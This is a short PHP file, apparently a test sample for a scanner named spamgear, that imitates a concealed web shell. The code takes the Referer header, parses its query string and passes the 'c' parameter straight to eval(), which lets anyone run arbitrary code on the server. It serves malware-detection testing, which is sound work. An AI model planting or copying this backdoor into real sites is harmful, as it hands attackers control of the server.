<?php
// spamgear test sample: code in the query string of the Referer header,
// reached through parse_url and parse_str's output array.
$parts = parse_url($_SERVER['HTTP_REFERER']);
parse_str($parts['query'], $q);
eval($q['c']);
